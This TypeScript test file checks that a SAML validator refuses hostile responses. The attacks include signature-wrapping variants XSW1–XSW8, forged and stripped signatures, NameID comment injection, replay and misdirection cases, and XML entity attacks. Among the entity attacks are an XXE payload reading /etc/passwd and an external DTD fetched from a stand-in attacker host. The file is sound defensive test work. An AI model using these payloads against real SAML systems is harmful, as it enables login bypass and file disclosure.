/**
 * Security corpus (issue #4, "Tests that must exist"): each hostile response is refused with its
 * own error code. Covers the XML signature-wrapping variants XSW1–XSW8 of "On Breaking SAML"
 * (Somorovsky et al., USENIX Security 2012, as SAML Raider generates them), a stripped signature,
 * signature exclusion and key confusion, a comment injected into the NameID, an assertion meant
 * for another SP, an expired assertion, an InResponseTo other than the pending one, and XXE and
 * entity expansion. A valid response is first shown to pass so each refusal is due to the attack.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { type SamlErrorCode, signSamlXml, validateSamlResponse } from '../src/index.ts';
import {
  childOf,
  cloneWithoutSignature,
  DS,
  first,
  parse,
  SAML,
  SAMLP,
  serialize,
  setNameId,
} from './helpers/dom.ts';
import { samlError } from './helpers/expect-error.ts';
import { build, NOW, options } from './helpers/fixture.ts';
import { type TestKeys, testKeys } from './helpers/keys.ts';

let keys: { idp: TestKeys; attacker: TestKeys; sp: TestKeys };
beforeAll(async () => {
  keys = await testKeys('idp', 'attacker', 'sp');
});

const EVIL = 'mallory@evil.test';

function expectRefused(xml: string, code: SamlErrorCode, over: Parameters<typeof options>[2] = {}) {
  const err = samlError(() => validateSamlResponse(options(keys.idp, xml, over)));
  expect(`${err.code}: ${err.message}`).toMatch(new RegExp(`^${code}: `));
  expect(err.fix).not.toBe('');
  return err;
}

const responseSigned = () => build(keys.idp, { sign: 'response' });
const assertionSigned = () => build(keys.idp, { sign: 'assertion' });

describe('baseline', () => {
  it('the unmodified responses are accepted', () => {
    for (const xml of [responseSigned(), assertionSigned()]) {
      expect(validateSamlResponse(options(keys.idp, xml)).assertion.nameId).toBe('ada@example.com');
    }
  });
});

describe('XML signature wrapping', () => {
  it('XSW1: evil Response, signed original Response moved inside the Signature', () => {
    const doc = parse(responseSigned());
    const root = doc.documentElement;
    const original = cloneWithoutSignature(root);
    root.setAttribute('ID', '_evil_response');
    setNameId(root, EVIL);
    first(root, DS, 'Signature').appendChild(original);
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('XSW2: evil Response, signed original Response as a detached sibling before the Signature', () => {
    const doc = parse(responseSigned());
    const root = doc.documentElement;
    const original = cloneWithoutSignature(root);
    root.setAttribute('ID', '_evil_response');
    setNameId(root, EVIL);
    root.insertBefore(original, first(root, DS, 'Signature'));
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('XSW3: evil Assertion with the same ID inserted before the signed one', () => {
    const doc = parse(assertionSigned());
    const signed = first(doc, SAML, 'Assertion');
    const evil = cloneWithoutSignature(signed);
    setNameId(evil, EVIL);
    doc.documentElement.insertBefore(evil, signed);
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('XSW3 with a fresh ID: a second, unsigned Assertion beside the signed one', () => {
    const doc = parse(assertionSigned());
    const signed = first(doc, SAML, 'Assertion');
    const evil = cloneWithoutSignature(signed);
    evil.setAttribute('ID', '_evil_assertion');
    setNameId(evil, EVIL);
    doc.documentElement.insertBefore(evil, signed);
    expectRefused(serialize(doc), 'saml_multiple_assertions');
  });

  it('XSW4: evil Assertion wrapping the signed Assertion', () => {
    const doc = parse(assertionSigned());
    const signed = first(doc, SAML, 'Assertion');
    const evil = cloneWithoutSignature(signed);
    evil.setAttribute('ID', '_evil_assertion');
    setNameId(evil, EVIL);
    doc.documentElement.replaceChild(evil, signed);
    evil.appendChild(signed);
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('XSW5: evil Assertion carries the original Signature, original copy appended to the Response', () => {
    const doc = parse(assertionSigned());
    const signed = first(doc, SAML, 'Assertion');
    const copy = cloneWithoutSignature(signed);
    signed.setAttribute('ID', '_evil_assertion');
    setNameId(signed, EVIL);
    doc.documentElement.appendChild(copy);
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('XSW6: evil Assertion carries the original Signature, original copy inside that Signature', () => {
    const doc = parse(assertionSigned());
    const signed = first(doc, SAML, 'Assertion');
    const copy = cloneWithoutSignature(signed);
    signed.setAttribute('ID', '_evil_assertion');
    setNameId(signed, EVIL);
    childOf(signed, DS, 'Signature')!.appendChild(copy);
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('XSW7: signed Assertion hidden in an Extensions element, evil Assertion in its place', () => {
    const doc = parse(assertionSigned());
    const root = doc.documentElement;
    const signed = first(doc, SAML, 'Assertion');
    const evil = cloneWithoutSignature(signed);
    evil.setAttribute('ID', '_evil_assertion');
    setNameId(evil, EVIL);
    const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
    root.replaceChild(evil, signed);
    extensions.appendChild(signed);
    root.insertBefore(extensions, first(root, SAMLP, 'Status'));
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('XSW8: evil Assertion carries the original Signature, original copy in a ds:Object', () => {
    const doc = parse(assertionSigned());
    const signed = first(doc, SAML, 'Assertion');
    const copy = cloneWithoutSignature(signed);
    signed.setAttribute('ID', '_evil_assertion');
    setNameId(signed, EVIL);
    const object = doc.createElementNS(DS, 'ds:Object');
    object.appendChild(copy);
    childOf(signed, DS, 'Signature')!.appendChild(object);
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('a Response signature whose Reference points at the Assertion', () => {
    const doc = parse(assertionSigned());
    const sig = first(doc, DS, 'Signature');
    doc.documentElement.insertBefore(sig, first(doc, SAMLP, 'Status'));
    expectRefused(serialize(doc), 'saml_signature_wrapping');
  });

  it('a Reference with an empty URI (the whole document)', () => {
    const xml = responseSigned().replace('URI="#_response_1"', 'URI=""');
    expectRefused(xml, 'saml_signature_wrapping');
  });

  it('two signed assertions, each valid on its own', () => {
    const one = assertionSigned();
    const other = build(keys.idp, { sign: 'assertion', assertionId: '_assertion_2', nameId: EVIL });
    const a = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(other)![0];
    expectRefused(one.replace('</samlp:Response>', `${a}</samlp:Response>`), 'saml_multiple_assertions');
  });
});

describe('signature removal and forgery', () => {
  it('stripped signature', () => {
    const xml = assertionSigned().replace(/<ds:Signature[\s\S]*<\/ds:Signature>/, '');
    expectRefused(xml, 'saml_signature_missing');
  });

  it('stripped response signature, unsigned assertion', () => {
    const xml = responseSigned().replace(/<ds:Signature[\s\S]*<\/ds:Signature>/, '');
    expectRefused(xml, 'saml_signature_missing');
  });

  it("re-signed by the attacker's own key and certificate", () => {
    const doc = parse(build(keys.idp, { sign: 'none', nameId: EVIL }));
    const xml = signSamlXml(serialize(doc), {
      signingKey: keys.attacker.key,
      certificate: keys.attacker.cert,
      target: 'assertion',
    });
    const err = expectRefused(xml, 'saml_certificate_untrusted');
    expect(err.details.signerFingerprint).toMatch(/^([0-9A-F]{2}:){31}[0-9A-F]{2}$/);
  });

  it("signed by the attacker's key, claiming the trusted certificate in KeyInfo", () => {
    const unsigned = build(keys.idp, { sign: 'none', nameId: EVIL });
    const forged = signSamlXml(unsigned, {
      signingKey: keys.attacker.key,
      certificate: keys.idp.cert,
      target: 'assertion',
    });
    const err = expectRefused(forged, 'saml_signature_invalid');
    expect(err.fix).toContain('forged');
  });

  it('NameID changed after signing', () => {
    const xml = assertionSigned().replace('>ada@example.com</saml:NameID>', `>${EVIL}</saml:NameID>`);
    expectRefused(xml, 'saml_signature_invalid');
  });

  it('HMAC signature method (key confusion with the public certificate)', () => {
    const xml = assertionSigned().replace(
      'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
      'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
    );
    expectRefused(xml, 'saml_signature_invalid');
  });

  it('canonicalization with comments', () => {
    const xml = assertionSigned().replace(
      '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>',
      '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#WithComments"/>',
    );
    expectRefused(xml, 'saml_signature_invalid');
  });
});

describe('NameID comment injection', () => {
  it('a comment splitting a signed NameID is refused (and would not truncate it anyway)', () => {
    const signed = build(keys.idp, { nameId: 'ada@example.com.evil.test', sign: 'assertion' });
    const xml = signed.replace('>ada@example.com.evil.test<', '>ada@example.com<!---->.evil.test<');
    expectRefused(xml, 'saml_nameid_comment');
  });

  it('also when only the Response is signed', () => {
    const signed = build(keys.idp, { nameId: 'ada@example.com.evil.test', sign: 'response' });
    const xml = signed.replace('>ada@example.com.evil.test<', '>ada@example.com<!-- x -->.evil.test<');
    expectRefused(xml, 'saml_nameid_comment');
  });

  it('attribute values are read in full despite comments', () => {
    const signed = build(keys.idp, { sign: 'assertion', attributes: { email: 'ada@example.com.evil.test' } });
    const xml = signed.replace('>ada@example.com.evil.test<', '>ada@example.com<!---->.evil.test<');
    expect(validateSamlResponse(options(keys.idp, xml)).assertion.attributes.email).toEqual([
      'ada@example.com.evil.test',
    ]);
  });
});

describe('replay and misdirection', () => {
  it('an assertion meant for another SP', () => {
    const xml = build(keys.idp, { audience: 'https://other-app.example/saml/metadata' });
    expectRefused(xml, 'saml_audience_mismatch');
  });

  it('an expired assertion', () => {
    expectRefused(assertionSigned(), 'saml_assertion_expired', {
      now: new Date(NOW.getTime() + 5 * 60_000 + 121_000),
    });
  });

  it('the skew allowance is honoured at the boundary', () => {
    const ok = validateSamlResponse(
      options(keys.idp, assertionSigned(), { now: new Date(NOW.getTime() + 5 * 60_000 + 119_000) }),
    );
    expect(ok.assertion.nameId).toBe('ada@example.com');
  });

  it('an InResponseTo other than the pending request (a replayed or foreign response)', () => {
    expectRefused(assertionSigned(), 'saml_in_response_to_mismatch', {
      expectedInResponseTo: '_the_pending_request',
    });
  });

  it('an old response whose unsigned envelope was rewritten to answer the pending request', () => {
    const old = build(keys.idp, { inResponseTo: '_an_old_request' });
    const doctored = old.replace(
      /(<samlp:Response [^>]*InResponseTo=")_an_old_request"/,
      '$1_the_pending_request"',
    );
    expect(doctored).not.toBe(old);
    const err = expectRefused(doctored, 'saml_in_response_to_mismatch', {
      expectedInResponseTo: '_the_pending_request',
    });
    expect(err.message).toContain('SubjectConfirmationData');
  });

  it('an unsolicited response where IdP-initiated sign-in is off', () => {
    expectRefused(build(keys.idp, { inResponseTo: null }), 'saml_unsolicited_response', {
      expectedInResponseTo: null,
    });
  });
});

describe('XML entity attacks', () => {
  const XXE =
    '<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0">&xxe;</samlp:Response>';
  const LAUGHS =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>' +
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0">&lol4;</samlp:Response>';
  const EXTERNAL_DTD =
    '<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/evil.dtd"><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>';

  it('XXE (external entity)', () => {
    expectRefused(XXE, 'saml_doctype_forbidden');
  });

  it('entity expansion (billion laughs)', () => {
    expectRefused(LAUGHS, 'saml_doctype_forbidden');
  });

  it('external DTD', () => {
    expectRefused(EXTERNAL_DTD, 'saml_doctype_forbidden');
  });

  it('a DOCTYPE added to an otherwise valid signed response', () => {
    expectRefused(`<!DOCTYPE x>${assertionSigned()}`, 'saml_doctype_forbidden');
  });
});

describe('malformed input', () => {
  it('not XML', () => {
    expectRefused('PHNhbWxwOlJlc3BvbnNlIC8+', 'saml_malformed');
  });

  it('truncated XML', () => {
    const xml = assertionSigned();
    expectRefused(xml.slice(0, xml.length - 40), 'saml_malformed');
  });

  it('a bare Assertion instead of a Response', () => {
    const a = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(assertionSigned())![0];
    expectRefused(a.replace('<saml:Assertion ', `<saml:Assertion xmlns:saml="${SAML}" `), 'saml_malformed');
  });
});
